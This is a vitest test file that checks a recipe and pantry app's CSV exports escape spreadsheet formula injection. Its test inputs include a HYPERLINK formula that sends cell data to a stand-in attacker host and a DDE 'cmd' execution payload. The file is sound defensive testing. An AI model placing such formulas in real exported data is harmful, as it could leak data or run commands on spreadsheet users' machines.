import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formatImportReportAsCsv } from '#domain/imports/report';
import { formatCsv, formatCsvCell, parseCsv } from '#domain/lib/csv';
import { formatNutritionCsv } from '#domain/nutrition/csv';
import { formatPantryCsv } from '#domain/pantry/csv';

/** Texts that a spreadsheet may evaluate as a formula, with any prefix. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tx',
    '\rx',
    '\nx',
    ' =1+1',
    '\u00a0=1+1',
  ],
  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0"],
  ...['-2+3', '=";"', '=1\r\n=2', "'=1+1", "''=1+1"],
];

/** Returns the cells of a file as a spreadsheet reads them: without quotes, with apostrophes. */
const splitCells = (file: string) =>
  [...file.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell);

test.each(FORMULAS)('the text %j is not a formula in the file, and is read back unchanged', (text) => {
  const file = formatCsv([['before', text, 'after']]);
  expect(splitCells(file).filter(isFormula)).toEqual([]);
  expect(parseCsv(file)).toEqual([{ line: 1, cells: ['before', text, 'after'] }]);
});

test('text that is not a formula is written unchanged', () => {
  for (const text of ['egg', '1-2 eggs', 'a=b', 'x@y.example', '½ cup', '2 × 3'])
    expect(formatCsvCell(text)).toBe(text);
});

test('every text is read back unchanged', () => {
  const texts = fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\'";,\t\r\n \u00a0a'), maxLength: 6 });
  fc.assert(
    fc.property(fc.array(fc.array(texts, { minLength: 3, maxLength: 3 }), { maxLength: 4 }), (rows) => {
      const whole = [['a', 'b', 'c'], ...rows.map(([one = '', ...rest]) => [`x${one}`, ...rest])];
      const file = formatCsv(whole);
      expect(splitCells(file).filter(isFormula)).toEqual([]);
      expect(parseCsv(file).map(({ cells }) => cells)).toEqual(whole);
    }),
    { numRuns: 1_000 },
  );
});

/** Every file that users can download, with foreign text in each text field. */
const FILES: readonly (readonly [name: string, file: (text: string) => string])[] = [
  [
    'the pantry',
    (text) =>
      formatPantryCsv([{ ingredient_name: text, qty: 1, unit: 'count', expires_on: null, notes: text }]),
  ],
  [
    'the report of an import',
    (text) =>
      formatImportReportAsCsv({
        source: text,
        remarks: [],
        imported: [{ position: 0, id: text, title: text }],
        failed: [{ position: 1, title: text, error: text }],
      } as unknown as Parameters<typeof formatImportReportAsCsv>[0]),
  ],
  [
    'the nutrition of a recipe',
    (text) => {
      const figures = {
        calories: 1,
        protein_g: 1,
        carbs_g: 1,
        fat_g: 1,
        fiber_g: 1,
        sugar_g: 1,
        sodium_mg: 1,
      };
      return formatNutritionCsv({
        ...figures,
        serving_size: text,
        servings: 2,
        totals: figures,
        breakdown: [{ name: text, grams: 1, calories: 1, protein: 1, carbs: 1, fat: 1 }],
        unmatched: [text],
      } as unknown as Parameters<typeof formatNutritionCsv>[0]);
    },
  ],
];

test.each(FILES)('no cell of %s is a formula, whatever a user has written into it', (_, file) => {
  for (const text of FORMULAS) {
    const cells = splitCells(file(text));
    expect(cells.length).toBeGreaterThan(5);
    expect(cells.filter(isFormula)).toEqual([]);
  }
});
